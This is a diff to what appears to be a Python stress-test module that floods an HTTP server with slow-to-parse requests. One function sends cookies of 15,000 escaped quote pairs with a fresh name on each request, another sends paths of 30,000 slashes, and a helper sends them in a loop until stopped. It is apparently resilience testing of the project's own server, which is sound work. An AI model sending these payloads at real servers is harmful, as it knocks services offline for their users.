@@ -115,22 +115,26 @@ def half_requests(attack: Attack) -> None:
 
 
 def quoted_cookies(attack: Attack) -> None:
-    """A cookie of 16,000 bytes took a third of a second to read, one of 60,000 five: backslashes in quotes."""
-    _requests(attack, b'GET /about HTTP/1.1\r\nHost: x\r\nCookie: a="' + b'\\"' * 15_000 + b'"\r\n\r\n')
+    """A cookie of 16,000 bytes took a third of a second to read, one of 60,000 five: backslashes in quotes. Each is another one,
+    since those that were read are remembered."""
+    cookie = b'="' + b'\\"' * 15_000 + b'"'
+    _requests(attack, lambda number: b"GET /about HTTP/1.1\r\nHost: x\r\nCookie: a%d%b\r\n\r\n" % (number, cookie))
 
 
 def paths_of_slashes(attack: Attack) -> None:
     """A path of 60,000 slashes took ten seconds to be logged: a token was looked for after every one of them."""
-    _requests(attack, b"GET " + b"/" * 30_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n")
+    _requests(attack, lambda _: b"GET " + b"/" * 30_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n")
 
 
-def _requests(attack: Attack, request: bytes) -> None:
+def _requests(attack: Attack, request: Callable[[int], bytes]) -> None:
+    """One request after the other, on a connection each."""
+    number = 0
     while not attack.stop.is_set():
+        number += 1
         with contextlib.suppress(OSError), attack.connection() as connection:
-            connection.sendall(request)
+            connection.sendall(request(number))
             attack.ready.set()
-            while not attack.stop.is_set() and connection.recv(65536):
-                connection.sendall(request)
+            connection.recv(65536)
         time.sleep(0.01)
 
 
